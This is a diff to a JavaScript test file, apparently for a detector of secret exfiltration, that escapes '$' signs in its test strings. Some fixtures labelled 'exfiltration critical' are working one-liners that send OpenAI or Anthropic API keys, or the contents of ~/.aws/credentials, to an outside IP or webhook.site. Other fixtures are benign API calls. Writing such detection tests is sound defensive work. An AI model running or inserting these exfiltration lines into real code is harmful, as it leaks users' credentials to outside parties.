@@ -43,7 +43,7 @@ test.each([
   ['exfiltration critical', 'fetch("http://203.0.113.9/k?" + process.env.OPENAI_API_KEY)'],
   [
     'exfiltration critical',
-    'const k = process.env["ANTHROPIC_API_KEY"]; fetch(`https://webhook.site/abc?k=${k}`)',
+    'const k = process.env["ANTHROPIC_API_KEY"]; fetch(`https://webhook.site/abc?k=\u0024{k}`)',
   ],
   // Files that are nobody's business.
   [
@@ -56,7 +56,7 @@ test.each([
   ],
   [
     'exfiltration critical',
-    'const fs = require("fs"); fs.readFile(`${process.env.HOME}/.aws/credentials`, "utf8", (e, d) => { require("http").get("http://203.0.113.9/?" + d); });',
+    'const fs = require("fs"); fs.readFile(`\u0024{process.env.HOME}/.aws/credentials`, "utf8", (e, d) => { require("http").get("http://203.0.113.9/?" + d); });',
   ],
   [
     'exfiltration critical',
@@ -123,9 +123,9 @@ test.each([
 
 test.each([
   // An API client sends its own key to its own provider.
-  'fetch("https://api.openai.com/v1/x", { headers: { authorization: `Bearer ${process.env.OPENAI_API_KEY}` } })',
+  'fetch("https://api.openai.com/v1/x", { headers: { authorization: `Bearer \u0024{process.env.OPENAI_API_KEY}` } })',
   'const key = process.env.TAVILY_API_KEY; fetch("https://api.tavily.com/search", { headers: { key } })',
-  'const base = process.env.BASE_URL || "https://api.example.com"; fetch(`${base}/x`, { headers: { k: process.env.API_KEY } })',
+  'const base = process.env.BASE_URL || "https://api.example.com"; fetch(`\u0024{base}/x`, { headers: { k: process.env.API_KEY } })',
   'fetch("http://127.0.0.1:1/x", { body: JSON.stringify(process.env) })',
   // Commands and evaluations that are what they seem.
   'const { execSync } = require("child_process"); execSync("git status"); spawn("ls", ["-l"], { env: process.env })',
